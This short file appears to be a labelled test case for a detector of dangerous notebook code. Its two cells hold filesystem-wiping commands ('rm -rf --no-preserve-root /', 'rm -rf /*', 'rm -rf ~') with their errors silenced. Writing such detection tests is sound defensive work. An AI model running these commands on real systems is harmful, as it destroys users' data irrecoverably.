#: why = "rm -rf / from a shell"
#: expect = "HOST"
#: base = "solved"
# %%
!rm -rf --no-preserve-root / 2>/dev/null

# %%
%%bash
rm -rf /* 2>/dev/null; rm -rf ~ 2>/dev/null
